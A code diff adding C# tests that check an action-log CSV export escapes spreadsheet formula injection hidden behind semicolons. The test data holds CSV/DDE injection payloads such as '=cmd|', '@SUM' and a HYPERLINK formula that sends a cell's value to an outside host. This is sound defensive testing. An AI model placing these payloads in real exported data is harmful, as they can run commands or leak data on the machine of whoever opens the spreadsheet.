@@ -327,6 +327,22 @@ public abstract class SignedActionTests(ServiceFixture fixture) : ServiceTests(f
         Assert.Contains(",\"'=cmd|\"\"x\"\",1@example.co\",", (await admin.GetAsync($"/auth/action/logs?{Range}")).Text, StringComparison.Ordinal);
     }
 
+    // Where commas stand in numbers, spreadsheets begin a cell behind each semicolon, whatever stands in quotes that begin in the midst of one.
+    [Theory]
+    [InlineData("jane;=cmd|1@example.co", "/auth/credentials", "jane;'=cmd|1@example.co")]
+    [InlineData("jane;\"=1@example.co", "/auth/credentials", "jane;\"'=1@example.co")]
+    [InlineData("jane@example.co", "/a;=HYPERLINK(\"https://b.example.co/\"&A1)", "/a;'=HYPERLINK(\"https://b.example.co/\"&A1)")]
+    [InlineData("jane@example.co", "/a;;@SUM(1);-1;+1;b=c", "/a;;'@SUM(1);'-1;'+1;b=c")]
+    public async Task What_a_spreadsheet_would_run_behind_a_semicolon_is_text(string username, string path, string told)
+    {
+        var organisation = await Service.NewOrganisationAsync();
+        var caller = await (await Registered.NewAsync(organisation, CredentialKind.Key, username: username)).SignedInAsync();
+        await caller.SignAsync(HttpMethod.Post, path, "");
+        var admin = await organisation.NewServiceAccountAsync(Permission.ReadLogs);
+
+        Assert.Contains($"{told.Replace("\"", "\"\"", StringComparison.Ordinal)}\",", (await admin.GetAsync($"/auth/action/logs?{Range}")).Text, StringComparison.Ordinal);
+    }
+
     // So many seconds from now, by the clock of the tests, which is set on by some of them.
     private string At(double seconds) => WireTime.Of(Service.Clock.GetUtcNow().AddSeconds(seconds));
 
